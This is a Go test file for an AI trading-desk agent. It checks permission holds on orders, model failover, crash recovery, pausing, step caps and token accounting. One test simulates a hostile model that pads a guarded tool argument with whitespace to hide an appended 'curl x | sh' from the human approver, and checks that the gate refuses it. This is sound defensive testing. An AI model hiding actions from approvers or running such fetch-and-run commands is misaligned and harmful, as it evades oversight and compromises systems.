package agent_test

import (
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/deskbot/deskbot/gate/gatetest"

	"github.com/deskbot/deskbot"
	"github.com/deskbot/deskbot/argtext"
	"github.com/deskbot/deskbot/deskbottest"
	"github.com/deskbot/deskbot/model"
	"github.com/deskbot/deskbot/model/modeltest"
	"github.com/deskbot/deskbot/store/storetest"
	"github.com/deskbot/deskbot/words"
)

func TestTriggerLeadsToToolsAndWords(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(modeltest.Calls(quote(`{"symbol":"INFY"}`)), modeltest.Text("INFY is at 1500."))
	w.start(t, w.Store)
	w.Tell(t, "What is INFY at?")

	msg := w.WaitMessage(t, "INFY is at 1500.")
	w.WaitSettled(t, deskbot.DeskIdle)
	if msg.Desk != "main" || msg.TriggerID == "" {
		t.Errorf("desk_message = %+v", msg)
	}
	if got := w.quotes.Runs(); got != 1 {
		t.Errorf("get_quote ran %d times, want 1", got)
	}
	reqs := w.primary.Requests()
	if len(reqs) != 2 {
		t.Fatalf("model got %d requests, want 2", len(reqs))
	}
	first := reqs[0]
	if got := lastUser(first); !strings.Contains(got, "[10:30 India time] Message from Asha:\nWhat is INFY at?") {
		t.Errorf("trigger as the model saw it = %q", got)
	}
	for _, want := range []string{"Friday 4 December 2026, 10:30 India time", "permission", "get_quote", "send_message", "Orders live at the broker"} {
		if !strings.Contains(first.System(), want) {
			t.Errorf("system prompt lacks %q:\n%s", want, first.System())
		}
	}
	if got, want := strings.Join(first.Tools(), ","), "cancel_gtt,cancel_order,flatten_desk,get_orders,get_positions,get_quote,modify_order,place_gtt,place_order,send_message"; got != want {
		t.Errorf("tools offered = %s, want %s", got, want)
	}
	res := reqs[1].ToolResults()
	if len(res) != 1 || !strings.Contains(res[0].Text, `quote #1 for {"symbol":"INFY"}`) {
		t.Errorf("tool results shown to the model = %+v", res)
	}
	var states []string
	for _, e := range w.ReadEvents(t) {
		if e.Kind == deskbot.EventDeskState {
			states = append(states, e.Text)
		}
	}
	if got := strings.Join(states, ","); got != "working,idle" {
		t.Errorf("desk_state events = %s, want working,idle", got)
	}
}

func TestHeldCallThenAllowStartsNextTurn(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(
		modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"RELIANCE","side":"buy","quantity":10,"price":2500}`}),
		modeltest.Text("I asked to buy 10 RELIANCE."),
	)
	w.start(t, w.Store)
	w.Tell(t, "Buy 10 RELIANCE at 2500.")

	held := w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
	w.WaitSettled(t, deskbot.DeskWaiting)
	// The words closing a turn that held a call are not a chat message of
	// their own (the request is); they are in the history, shown below.
	if n := w.Count(t, deskbot.EventDeskMessage); n != 0 {
		t.Errorf("%d desk_message events after a hold, want 0: the request says it", n)
	}
	if res := w.primary.LastRequest().ToolResults(); len(res) != 1 || !strings.Contains(res[0].Text, "needs the user's permission, so it was not run") {
		t.Fatalf("model was told %+v, want the hold message", res)
	}
	if b, _ := w.Paper.Book(t.Context(), "main"); len(b.Positions) != 0 {
		t.Fatalf("positions before the allow = %+v", b.Positions)
	}

	w.primary.Push(modeltest.Text("Bought 10 RELIANCE."))
	if _, err := gatetest.Resolve(t.Context(), w.Gate, held.RequestID, deskbot.AllowOnce, "", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
		t.Fatal(err)
	}
	w.WaitMessage(t, "Bought 10 RELIANCE.")
	w.WaitSettled(t, deskbot.DeskIdle)

	next := w.primary.LastRequest()
	got := lastUser(next)
	for _, want := range []string{"Answer to your permission request", "The user allowed place_order (request " + held.RequestID, "RELIANCE"} {
		if !strings.Contains(got, want) {
			t.Errorf("next turn starts with %q; want it to contain %q", got, want)
		}
	}
	// The earlier turn is in the history, as a valid conversation.
	if ms := next.Messages(); len(ms) < 4 || ms[1].Role != "user" || ms[2].Role != "assistant" || !strings.Contains(ms[2].Text, "held for the user's permission") {
		t.Errorf("history shown = %+v", ms)
	} else if !strings.Contains(ms[2].Text, "I asked to buy 10 RELIANCE.") {
		t.Errorf("history keeps %q, want the words that closed the held turn", ms[2].Text)
	}
	b, err := w.Paper.Book(t.Context(), "main")
	if err != nil || len(b.Positions) != 1 || b.Positions[0].Quantity != 10 {
		t.Errorf("book after the allow = %+v, %v; want 10 RELIANCE", b, err)
	}
}

func TestFailoverContinuesTheTurnWithoutRepeating(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(modeltest.Calls(quote(`{"symbol":"TCS"}`)), modeltest.Status(500))
	// The backup is shown the call that already ran; it asks again anyway,
	// and is answered from memory.
	w.backup.Push(modeltest.Calls(quote(`{ "symbol": "TCS" }`)), modeltest.Text("TCS is at 1500."))
	w.start(t, w.Store)
	w.Tell(t, "Quote TCS.")

	w.WaitMessage(t, "TCS is at 1500.")
	w.WaitSettled(t, deskbot.DeskIdle)
	if got := w.quotes.Runs(); got != 1 {
		t.Errorf("get_quote ran %d times, want 1", got)
	}
	breqs := w.backup.Requests()
	if len(breqs) != 2 {
		t.Fatalf("backup got %d requests, want 2", len(breqs))
	}
	if res := breqs[0].ToolResults(); len(res) != 1 || !strings.Contains(res[0].Text, "quote #1") {
		t.Errorf("backup was shown %+v, want the completed call", res)
	}
	if res := breqs[1].ToolResults(); len(res) != 2 || res[1].Text != res[0].Text {
		t.Errorf("repeat answered with %+v, want the remembered result", res)
	}
	if n := w.Count(t, deskbot.EventModelUnreachable); n != 0 {
		t.Errorf("%d model_unreachable events; a failover is not an outage", n)
	}
}

func TestBrokenArgumentsTwiceFailOver(t *testing.T) {
	w := newDeskWorld(t)
	broken := modeltest.Calls(quote(`{"symbol": "INFY"`))
	w.primary.Push(broken, broken)
	w.backup.Push(modeltest.Text("Backup here."))
	w.start(t, w.Store)
	w.Tell(t, "Quote INFY.")

	w.WaitMessage(t, "Backup here.")
	if got := len(w.primary.Requests()); got != 2 {
		t.Errorf("primary asked %d times, want 2 (one retry)", got)
	}
	if got := w.quotes.Runs(); got != 0 {
		t.Errorf("a malformed call ran %d times", got)
	}
}

func TestEveryModelDownIsReportedOnceAndRetried(t *testing.T) {
	w := newDeskWorld(t)
	var up atomic.Bool
	answer := func(r modeltest.Request) modeltest.Reply {
		if !up.Load() {
			return modeltest.Status(503)
		}
		return modeltest.Text("answered: " + lastUser(r)[strings.Index(lastUser(r), ":\n")+2:])
	}
	w.primary.SetHandler(answer)
	w.backup.SetHandler(answer)
	w.start(t, w.Store)
	w.Tell(t, "one")
	w.Tell(t, "two")

	w.WaitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
	deskbottest.Eventually(t, "a few retries", func() bool { return len(w.primary.Requests()) >= 4 })
	if n := w.Count(t, deskbot.EventModelUnreachable); n != 1 {
		t.Errorf("%d model_unreachable events, want 1", n)
	}
	if n, _ := w.Store.PendingTriggers(t.Context(), "main"); n != 2 {
		t.Errorf("pending triggers = %d, want both kept", n)
	}
	// The desk may be between the primary's refusal and the backup's when
	// the models come back: whichever answers first is the one named.
	up.Store(true)
	if back := w.WaitMessage(t, "reaches its model again ("); !strings.HasSuffix(back.Text, "(primary).") && !strings.HasSuffix(back.Text, "(backup).") {
		t.Errorf("recovery announced as %q; want it to name the model that answered", back.Text)
	}
	w.WaitMessage(t, "answered: one")
	w.WaitMessage(t, "answered: two")
	w.WaitSettled(t, deskbot.DeskIdle)
	if n := w.Count(t, deskbot.EventModelUnreachable); n != 1 {
		t.Errorf("%d model_unreachable events, want 1", n)
	}
}

func TestRestartLosesNoTriggerAndRepeatsNoCall(t *testing.T) {
	w := newDeskWorld(t)
	// The first process makes a call for "one" and dies while the model
	// thinks about the result.
	w.primary.Push(modeltest.Calls(quote(`{"symbol":"HDFC"}`)), modeltest.Reply{Hang: true})
	stop := w.start(t, w.Store)
	w.Tell(t, "one")
	w.Tell(t, "two")
	w.Tell(t, "three")
	deskbottest.Eventually(t, "the hanging request", func() bool { return len(w.primary.Requests()) == 2 })
	stop()

	// The restarted process is handed "one" again, with the call it made.
	w.primary.SetHandler(func(r modeltest.Request) modeltest.Reply {
		if strings.HasSuffix(lastUser(r), "one") && len(r.ToolResults()) == 1 {
			return modeltest.Calls(quote(`{"symbol":"HDFC"}`))
		}
		return modeltest.Text("done: " + lastUser(r)[strings.LastIndex(lastUser(r), "\n")+1:])
	})
	w.start(t, storetest.MustReopen(t, w.Store))
	for _, s := range []string{"one", "two", "three"} {
		w.WaitMessage(t, "done: "+s)
	}
	w.WaitSettled(t, deskbot.DeskIdle)
	if got := w.quotes.Runs(); got != 1 {
		t.Errorf("get_quote ran %d times across the restart, want 1", got)
	}
	resumed := w.primary.Requests()[2]
	if res := resumed.ToolResults(); len(res) != 1 || !strings.Contains(res[0].Text, "quote #1") {
		t.Errorf("after the restart the model was shown %+v, want the call already made", res)
	}
}

func TestPausedDeskStartsNothing(t *testing.T) {
	w := newDeskWorld(t)
	ctx := t.Context()
	if err := w.Store.SetPaused(ctx, "main", true, deskbot.AuditEntry{Action: "pause", By: "Asha", At: w.Clock.Now()}); err != nil {
		t.Fatal(err)
	}
	w.primary.Push(modeltest.Text("Resumed and answering."))
	w.start(t, w.Store)
	w.Tell(t, "Anything?")

	// An unpaused desk would have called its model before looking at its
	// switch twice more after the trigger came.
	after := w.statusReads.Load()
	deskbottest.Eventually(t, "the desk to look at its pause switch twice more", func() bool { return w.statusReads.Load() >= after+2 })
	if n := len(w.primary.Requests()); n != 0 {
		t.Fatalf("a paused desk called its model %d times", n)
	}
	if n, _ := w.Store.PendingTriggers(ctx, "main"); n != 1 {
		t.Fatalf("pending = %d, want the trigger kept", n)
	}
	if err := w.Store.SetPaused(ctx, "main", false, deskbot.AuditEntry{Action: "resume", By: "Asha", At: w.Clock.Now()}); err != nil {
		t.Fatal(err)
	}
	w.WaitMessage(t, "Resumed and answering.")
	w.WaitSettled(t, deskbot.DeskIdle)
}

func TestStepCapEndsTheTurn(t *testing.T) {
	w := newDeskWorld(t)
	w.Desk.MaxSteps = 3
	n := 0
	w.primary.SetHandler(func(modeltest.Request) modeltest.Reply {
		n++
		return modeltest.Calls(quote(`{"symbol":"S` + string(rune('A'+n)) + `"}`))
	})
	w.start(t, w.Store)
	w.Tell(t, "Quote everything.")
	w.WaitMessage(t, "cut off after 3 model steps")
	w.WaitSettled(t, deskbot.DeskIdle)
	if got := len(w.primary.Requests()); got != 3 {
		t.Errorf("model called %d times, want the cap of 3", got)
	}
}

func TestRefusedRequestEndsTheTurn(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(modeltest.Reply{Status: 400, ErrorMessage: "context too long"})
	w.start(t, w.Store)
	w.Tell(t, "Hello")
	w.WaitMessage(t, "my model refused the request")
	w.WaitSettled(t, deskbot.DeskIdle)
	if got := len(w.backup.Requests()); got != 0 {
		t.Errorf("backup asked %d times; a refusal is not an outage", got)
	}
}

func TestFlattenTriggerText(t *testing.T) {
	tr := words.FlattenTrigger("main", time.Date(2026, 12, 4, 9, 35, 0, 0, time.UTC), "closed 10 RELIANCE, realised +₹120.00")
	if got, want := tr.Text, "The user flattened this desk at 15:05 India time: closed 10 RELIANCE, realised +₹120.00"; got != want {
		t.Errorf("text = %q, want %q", got, want)
	}
	if tr.Kind != deskbot.TriggerFlatten || tr.Desk != "main" {
		t.Errorf("trigger = %+v", tr)
	}
}

func TestFailoverToAnthropicKeepsAValidConversation(t *testing.T) {
	w := newDeskWorld(t)
	w.backupAPI = model.Anthropic
	w.primary.Push(modeltest.Text("Noted."), modeltest.Calls(quote(`{"symbol":"TCS"}`), quote(`{"symbol":"INFY"}`)), modeltest.Status(502))
	w.backup.Push(modeltest.Text("TCS and INFY are at 1500."))
	w.start(t, w.Store)
	w.Tell(t, "Remember: quotes in rupees.")
	w.WaitMessage(t, "Noted.")
	w.Tell(t, "Quote TCS and INFY.")
	w.WaitMessage(t, "TCS and INFY are at 1500.")

	r := w.backup.LastRequest()
	if r.API != modeltest.APIAnthropic {
		t.Fatalf("backup spoke %s", r.API)
	}
	var roles []string
	for _, m := range r.Messages() {
		roles = append(roles, m.Role)
	}
	// History turn, the trigger, the two calls made, their results.
	if got, want := strings.Join(roles, ","), "user,assistant,user,assistant,tool,tool"; got != want {
		t.Errorf("roles = %s, want %s", got, want)
	}
	if res := r.ToolResults(); len(res) != 2 || !strings.Contains(res[0].Text, "TCS") || !strings.Contains(res[1].Text, "INFY") {
		t.Errorf("tool results = %+v", res)
	}
	if got := w.quotes.Runs(); got != 2 {
		t.Errorf("get_quote ran %d times, want 2", got)
	}
}

func TestHistoryStaysBounded(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.SetHandler(func(r modeltest.Request) modeltest.Reply { return modeltest.Text("ok") })
	w.start(t, w.Store)
	for i := range 25 {
		w.Tell(t, "message "+strconv.Itoa(i))
	}
	w.WaitSettled(t, deskbot.DeskIdle)
	deskbottest.Eventually(t, "25 turns", func() bool { return len(w.primary.Requests()) == 25 })
	ms := w.primary.LastRequest().Messages()
	var roles []string
	for _, m := range ms {
		if m.Role != "system" {
			roles = append(roles, m.Role)
		}
	}
	// 40 messages of history (20 turns) and the trigger, alternating.
	if len(roles) != 41 {
		t.Fatalf("the model saw %d messages, want 41", len(roles))
	}
	for i, r := range roles {
		if want := []string{"user", "assistant"}[i%2]; r != want {
			t.Fatalf("message %d is %s, want %s: %v", i, r, want, roles)
		}
	}
	if !strings.HasSuffix(ms[len(ms)-1].Text, "message 24") || !strings.HasSuffix(ms[1].Text, "message 4") {
		t.Errorf("history runs from %q to %q", ms[1].Text, ms[len(ms)-1].Text)
	}
}

func TestRepeatedHeldCallMakesOneRequest(t *testing.T) {
	w := newDeskWorld(t)
	order := modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"SBIN","side":"buy","quantity":5,"price":600}`}
	// A model that ignores the hold message and asks again.
	w.primary.Push(modeltest.Calls(order), modeltest.Calls(order), modeltest.Text("Waiting for permission."))
	w.start(t, w.Store)
	w.Tell(t, "Buy 5 SBIN.")
	w.WaitSettled(t, deskbot.DeskWaiting)
	if n := w.Count(t, deskbot.EventDeskMessage); n != 0 {
		t.Errorf("%d desk_message events after a hold, want 0: the request says it", n)
	}

	if n := w.Count(t, deskbot.EventUserRequest); n != 1 {
		t.Errorf("%d permission requests, want 1", n)
	}
	res := w.primary.LastRequest().ToolResults()
	if len(res) != 2 || res[0].Text != res[1].Text {
		t.Errorf("the repeat was answered %+v, want the same hold message", res)
	}
}

// A desk with a request still open rests as "waiting for approval" after a
// later turn that held nothing: /desks must not call it idle. It learns so
// from its own count of open requests, never by reading every open request
// of every desk.
func TestDeskWaitsWhileAnyRequestIsOpen(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(
		modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"TCS","side":"buy","quantity":1,"price":4000}`}),
		modeltest.Text("Asked to buy TCS."),
		modeltest.Text("Nothing new."),
	)
	w.start(t, w.Store)
	w.Tell(t, "Buy 1 TCS.")
	held := w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
	w.WaitSettled(t, deskbot.DeskWaiting)

	w.Tell(t, "Anything new?")
	w.WaitMessage(t, "Nothing new.")
	w.WaitSettled(t, deskbot.DeskWaiting)

	w.primary.Push(modeltest.Text("Denied, fine."))
	if _, err := gatetest.Resolve(t.Context(), w.Gate, held.RequestID, deskbot.Deny, "no", deskbot.Person{ID: 7, Name: "Asha"}); err != nil {
		t.Fatal(err)
	}
	w.WaitMessage(t, "Denied, fine.")
	w.WaitSettled(t, deskbot.DeskIdle)
}

// A turn restarted after a crash learns that a call of it was held from
// the remembered result's Held field, not from the words: the gate's words
// may change, and a desk's command can print them.
func TestRestartedTurnKnowsHeldCallByField(t *testing.T) {
	tests := []struct {
		name   string
		result deskbot.ToolResult
		state  deskbot.DeskState
		note   string
	}{
		{"held, other words", deskbot.ToolResult{Text: "Any wording the gate may choose one day.", Held: true}, deskbot.DeskWaiting, "held for the user's permission"},
		{"ran, printing the gate's words", deskbot.ToolResult{Text: "get_quote needs the user's permission, so it was not run."}, deskbot.DeskIdle, "-> get_quote needs"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newDeskWorld(t)
			ctx := t.Context()
			prior := deskbot.CompletedCall{Call: deskbot.ToolCall{ID: "c1", Name: "get_quote", Arguments: []byte(`{"symbol":"TCS"}`)}, Result: tt.result}
			result := deskbot.Event{Kind: deskbot.EventToolResult, Desk: "main", Time: w.Clock.Now(), TriggerID: "trig-held", Call: &prior.Call, Result: &prior.Result}
			if err := w.Store.RecordResult(ctx, "trig-held", nil, &prior, result); err != nil {
				t.Fatal(err)
			}
			w.primary.Push(modeltest.Text("Turn over."))
			if err := w.Store.Enqueue(ctx, deskbot.Trigger{ID: "trig-held", Desk: "main", Kind: deskbot.TriggerMessage, Text: "Quote TCS.", From: "Asha", CreatedAt: w.Clock.Now()}); err != nil {
				t.Fatal(err)
			}
			w.start(t, w.Store)
			w.WaitSettled(t, tt.state)
			// The words closing a turn that held a call are not a chat
			// message of their own; any other turn's are.
			if n, want := w.Count(t, deskbot.EventDeskMessage), map[bool]int{true: 0, false: 1}[tt.result.Held]; n != want {
				t.Errorf("%d desk_message events, want %d", n, want)
			}
			hist, err := w.Store.History(ctx, "main", 10)
			if err != nil {
				t.Fatal(err)
			}
			if len(hist) != 2 || !strings.Contains(hist[1].Content, tt.note) {
				t.Errorf("history = %+v, want the call noted with %q", hist, tt.note)
			}
		})
	}
}

// A model that answers with thousands of tool calls, or never stops
// talking, is a broken backend: none of its calls runs, the next backend
// takes over, and when every backend is broken the chat is told once.
func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
	w := newDeskWorld(t)
	calls := make([]modeltest.ToolCall, 10000)
	for i := range calls {
		calls[i] = quote(`{"symbol":"S` + strconv.Itoa(i) + `"}`)
	}
	w.primary.Push(modeltest.Calls(calls...))
	w.backup.Push(modeltest.Text("Backup here."))
	w.start(t, w.Store)
	w.Tell(t, "Quote everything.")
	w.WaitMessage(t, "Backup here.")
	if got := w.quotes.Runs(); got != 0 {
		t.Errorf("calls of an oversized reply ran %d times", got)
	}

	w.primary.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Calls(calls...) })
	w.backup.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Reply{Flood: 50 << 20} })
	w.Tell(t, "Again.")
	down := w.WaitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
	if !strings.Contains(down.Text, "more tool calls than the 32 allowed") || !strings.Contains(down.Text, "larger than") {
		t.Errorf("outage told as %q, want both reasons", down.Text)
	}
	// Two more rounds of both backends failing are not told again.
	n := len(w.backup.Requests())
	deskbottest.Eventually(t, "two more rounds", func() bool { return len(w.backup.Requests()) >= n+2 })
	if got := w.Count(t, deskbot.EventModelUnreachable); got != 1 {
		t.Errorf("%d model_unreachable events, want 1", got)
	}
	if got := w.quotes.Runs(); got != 0 {
		t.Errorf("calls of an oversized reply ran %d times", got)
	}
}

// A hostile desk pads a guarded call so that an approver would be shown its
// start only: it never becomes a request, and the model is told why.
func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
	w := newDeskWorld(t)
	w.Guarded = []string{"get_quote"} // a guarded tool with free text and no argument check of its own
	args := `{"symbol":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "get_quote", Arguments: args}), modeltest.Text("Understood."))
	w.start(t, w.Store)
	w.Tell(t, "Buy 1 SBIN.")
	w.WaitMessage(t, "Understood.")
	w.WaitSettled(t, deskbot.DeskIdle)

	if n := w.Count(t, deskbot.EventUserRequest); n != 0 {
		t.Errorf("%d permission requests, want none", n)
	}
	res := w.primary.LastRequest().ToolResults()
	n := argtext.Length(argtext.Arguments([]byte(args)))
	// The OpenAI-compatible API has no error flag: results say "Error:".
	if len(res) != 1 || res[0].Text != "Error: "+words.TooLongToShowMessage("get_quote", n) {
		t.Errorf("model told %+v, want the too-long message", res)
	}
	if open, _ := w.Store.OpenRequests(t.Context()); len(open) != 0 {
		t.Errorf("open requests = %d, want none", len(open))
	}
}

// Two turns, one answered and one held, leave their words, history,
// states and completed calls in order.
func TestTurnsLeaveTheirRecordInOrder(t *testing.T) {
	w := newDeskWorld(t)
	w.primary.Push(
		modeltest.Calls(quote(`{"symbol":"INFY"}`)), modeltest.Text("INFY is at 1500."),
		modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: `{"symbol":"TCS","side":"buy","quantity":1,"price":4000}`}),
		modeltest.Text("Asked to buy TCS."),
	)
	w.start(t, w.Store)
	w.Tell(t, "What is INFY at?")
	w.WaitMessage(t, "INFY is at 1500.")
	w.WaitSettled(t, deskbot.DeskIdle)
	w.Tell(t, "Buy 1 TCS.")
	w.WaitEvent(t, "the held request", func(e deskbot.Event) bool { return e.Kind == deskbot.EventUserRequest })
	w.WaitSettled(t, deskbot.DeskWaiting)

	var got []string
	for _, e := range w.ReadEvents(t) {
		switch e.Kind {
		case deskbot.EventDeskState, deskbot.EventDeskMessage:
			got = append(got, string(e.Kind)+" "+e.Text)
		}
	}
	want := []string{"desk_state working", "desk_message INFY is at 1500.", "desk_state idle", "desk_state working", "desk_state waiting for approval"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("events = %q; want %q", got, want)
	}
	hist, err := w.Store.History(t.Context(), "main", 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(hist) != 4 || !strings.Contains(hist[3].Content, "held for the user's permission") {
		t.Errorf("history = %+v; want two turns, the second held", hist)
	}
	for _, e := range w.ReadEvents(t) {
		if e.Kind == deskbot.EventToolResult {
			calls, err := w.Store.CompletedCalls(t.Context(), e.TriggerID)
			if err != nil || len(calls) != 1 || calls[0].Call.Name != e.Call.Name {
				t.Errorf("completed calls of the turn of %s = %+v, %v; want it", e.Call.Name, calls, err)
			}
		}
	}
}

// What a turn's model steps cost is counted for the desk's India day with
// the turn's end, as the provider reported it.
func TestTurnCountsItsTokens(t *testing.T) {
	w := newDeskWorld(t)
	call, words := modeltest.Calls(quote(`{"symbol":"INFY"}`)), modeltest.Text("INFY is at 1500.")
	call.InputTokens, call.OutputTokens = 900, 20
	words.InputTokens, words.OutputTokens = 950, 12
	w.primary.Push(call, words)
	w.start(t, w.Store)
	w.Tell(t, "What is INFY at?")
	w.WaitMessage(t, "INFY is at 1500.")
	w.WaitSettled(t, deskbot.DeskIdle)
	st, err := w.Store.DeskStatus(t.Context(), "main")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := st.TokensDay+" "+strconv.FormatInt(st.Tokens, 10), "2026-12-04 1882"; got != want {
		t.Errorf("day and tokens = %s, want %s", got, want)
	}
}
